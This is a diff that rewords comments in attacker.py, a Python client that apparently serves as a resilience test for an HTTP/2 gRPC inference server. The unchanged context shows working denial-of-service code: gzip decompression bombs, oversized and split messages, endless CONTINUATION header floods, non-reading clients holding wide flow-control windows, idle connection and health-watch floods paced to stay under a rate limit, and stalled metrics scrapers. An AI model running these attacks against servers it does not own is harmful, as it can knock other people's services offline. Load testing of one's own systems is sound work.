@@ -1,11 +1,11 @@
 #!/usr/bin/python3
 """One hostile client: attacker.py ATTACK HOST:PORT [--KEY=NUMBER...] [--tls] [--token TOKEN] [--hold]
 
-Prints one line of JSON: how the attack's streams and connections ended, and the bytes it sent. With
+Prints one line of JSON with the ends of the attack's streams and connections, and the bytes it sent. With
 --hold its connections then stay open until standard input ends, so that a test can look at the server
-under attack, and the line comes again. --tls: without checking the certificate. --source ADDRESS: from
-this address of the machine. --list names the attacks and their numbers.
-Needs python3-hpack. Attack only what is yours.
+under attack, and then the line is printed again. --tls does not check the certificate. --source ADDRESS
+sends from this address of the machine. --list names the attacks and their numbers.
+Needs python3-hpack. Attack only your own servers.
 """
 
 import argparse
@@ -28,7 +28,7 @@ STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
 IMPORT = "/aft.v1.StateService/Import"
 REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
 WATCH = "/grpc.health.v1.Health/Watch"
-QUIET = 2  # Seconds without an event after which an attack counts as complete.
+QUIET = 2  # The seconds without an event after which an attack is complete.
 
 
 # ---- Protobuf, as far as requests need it --------------------------------------------------------
@@ -48,7 +48,7 @@ def field(number, value):
 
 
 def fields(data):
-  """(number, value) of each field of a protobuf message; values are bytes, or numbers."""
+  """Yields (number, value) of each field of a protobuf message. A value is bytes or a number."""
   at = 0
 
   def varint():
@@ -75,7 +75,7 @@ def fields(data):
 
 
 def inside(data, *path):
-  """The messages at this path of field numbers."""
+  """Yields the messages at this path of field numbers."""
   for number, value in fields(data):
     if number == path[0]:
       yield from [value] if len(path) == 1 else inside(value, *path[1:])
@@ -86,15 +86,15 @@ def generate(tokens, prompt=b"It is a truth universally acknowledged"):
 
 
 def infer(text=b"It is a truth", parameters=b'{"max_tokens": 3}'):
-  """ModelInferRequest of a language model called "m"."""
+  """A ModelInferRequest for a language model with the name "m"."""
   inputs = [field(5, field(1, name) + field(2, b"BYTES") + field(3, 1) + field(5, field(8, value)))
             for name, value in ((b"text_input", text), (b"sampling_parameters", parameters))]
   return message(field(1, b"m") + b"".join(inputs))
 
 
 def zeros_in_gzip(megabytes):
-  """A gzip stream of that many zeros, made from one block that is repeated; its checksum is wrong, which
-  nobody knows before all of it is inflated."""
+  """A gzip stream of zeros, made by repeating one block. Its checksum is wrong, but that shows only after all
+  of it is inflated."""
   gzip, block = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(1 << 20)
   first = gzip.compress(block) + gzip.flush(zlib.Z_FULL_FLUSH)
   other = gzip.compress(block) + gzip.flush(zlib.Z_FULL_FLUSH)
@@ -103,9 +103,9 @@ def zeros_in_gzip(megabytes):
 
 # ---- Attacks: (connect, numbers...) -> connections -----------------------------------------------
 def send(connect, path, bodies, headers=(), end=True, begun=False, patience=QUIET, **how):
-  """One connection, a stream for each body; until they have ended (begun: have an answer)."""
+  """Opens one connection with a stream for each body. Waits for their ends, or with `begun` for their answers."""
   connection = connect(**how)
-  connection.turn(QUIET)  # The peer's windows.
+  connection.turn(QUIET)  # Reads the peer's windows.
   for body in bodies:
     stream = connection.request(path, headers)
     connection.data(stream, body, end)
@@ -120,12 +120,12 @@ def gzip_bomb(connect, megabytes=1024, streams=1):
 
 
 def unannounced_gzip(connect, megabytes=64):
-  """The same without saying so in the headers, where a proxy would look."""
+  """A gzip bomb that the headers, which a proxy reads, do not announce."""
   return send(connect, GENERATE, [message(zeros_in_gzip(megabytes), compressed=True)])
 
 
 def big_message(connect, megabytes=1024, path=GENERATE):
-  """An honest length, all of it sent."""
+  """One large message with its true length, sent completely."""
   return send(connect, path, [message(field(2, bytes(megabytes << 20)))])
 
 
@@ -139,7 +139,7 @@ def half_messages(connect, streams=60, megabytes=10, connections=1, path=GENERAT
 
 
 def split_heads(connect, megabytes=5, path=STREAM_INFER):
-  """Messages that are too large, the five bytes before each in two frames."""
+  """Messages that are too large, with the five bytes of their head in two frames."""
   found = []
   for first in range(1, 5):
     connection = connect()
@@ -158,7 +158,7 @@ def watch_names(connect, streams=194, megabytes=10):
 
 
 def long_model_name(connect, kilobytes=5120, streams=1):
-  """A model that is not there, whose name comes back in messages and logs."""
+  """A request for a missing model with a long name, which might be repeated in messages and logs."""
   body = message(field(1, b"m" * (kilobytes << 10)) + field(2, b"prompt"))
   return send(connect, GENERATE, [body] * streams)
 
@@ -172,7 +172,7 @@ def stalled_readers(connect, streams=200, tokens=100000, connections=1):
 
 
 def deaf_readers(connect, streams=200, tokens=100000):
-  """Generations with windows wide open from a client that does not read its socket."""
+  """Generations with the largest windows, from a client that does not read its socket."""
   connection = connect(window=http2.MAX_WINDOW)
   connection.turn(QUIET)
   connection.deaf = True
@@ -183,7 +183,7 @@ def deaf_readers(connect, streams=200, tokens=100000):
 
 
 def long_generations(connect, streams=64, tokens=1000000):
-  """Generations as long as the server allows, from a client that reads all; left running."""
+  """Generations as long as the server allows, from a client that reads all. They are left running."""
   return send(connect, GENERATE, [generate(tokens)] * streams, begun=True)
 
 
@@ -209,7 +209,7 @@ def endless_headers(connect, megabytes=16):
   connection = connect(acknowledge=False)
   stream = connection.open()
   connection.frame(http2.HEADERS, 0, stream, connection.block(GENERATE))
-  header = b"\x00\x01x\x7f\x81\x7e" + b"v" * 382  # x: vvv, literal, kept in no table.
+  header = b"\x00\x01x\x7f\x81\x7e" + b"v" * 382  # The header "x: vvv…" as a literal that is not added to the table.
   frame = header * (http2.FRAME_BYTES // len(header))
   while connection.sent < megabytes << 20 and not connection.streams[stream].ended:
     connection.frame(http2.CONTINUATION, 0, stream, frame)
@@ -257,30 +257,30 @@ def idle_connections(connect, count=500):
       found.append(connect())
       found[-1].flush()
   except OSError:
-    pass  # Refused: those that were not stay in the answer.
+    pass  # The answer counts only connections that were not refused.
   for connection in found:
     connection.turn(0)
   return found
 
 
 def idle_watches(connect, connections=23, streams=95, rate=180):
-  """Health watches that stay open, so many a second."""
+  """Health watches that stay open, with `rate` new ones a second."""
   found, begun = [], time.monotonic()
   for i in range(connections):
     found += send(connect, WATCH, [message(b"")] * streams, begun=True)
-    while time.monotonic() < begun + (i + 1) * streams / rate:  # More are refused by the edge's rate.
+    while time.monotonic() < begun + (i + 1) * streams / rate:  # The edge's rate limit would refuse more.
       for connection in found:
         connection.turn(0.01)
   return found
 
 
 def idle_infer_streams(connect, connections=1, streams=64):
-  """Streams of many requests that never send one."""
+  """Streams for many requests on which no request is sent."""
   return [one for _ in range(connections) for one in send(connect, STREAM_INFER, [b""] * streams, end=False)]
 
 
 def stalled_scrapers(connect, count=3):
-  """HTTP/1 requests for /metrics: every second one never ends, the answers of the others nobody reads."""
+  """HTTP/1 requests for /metrics. Every second one never ends; the answers of the others are not read."""
   host, port = connect.address.rsplit(":", 1)
   sockets = []
   for i in range(count):
@@ -303,7 +303,7 @@ def numbers_of(attack):
 
 
 def attack(name, address, tls=None, token=None, source=None, **numbers):
-  """Runs an attack; returns a function that says what has happened, and the open connections."""
+  """Runs an attack. Returns a function that describes what has happened, and the open connections."""
   def connect(**how):
     return Connection(address, tls, token=token, source=source, **how)
 
@@ -326,7 +326,7 @@ def attack(name, address, tls=None, token=None, source=None, **numbers):
 
 
 def client_tls(certificate=None, key=None, authority=None):
-  """A TLS client of HTTP/2; without `authority` it believes any server."""
+  """The TLS context of an HTTP/2 client. Without `authority` it accepts any server."""
   context = ssl.create_default_context(cafile=authority)
   if authority is None:
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
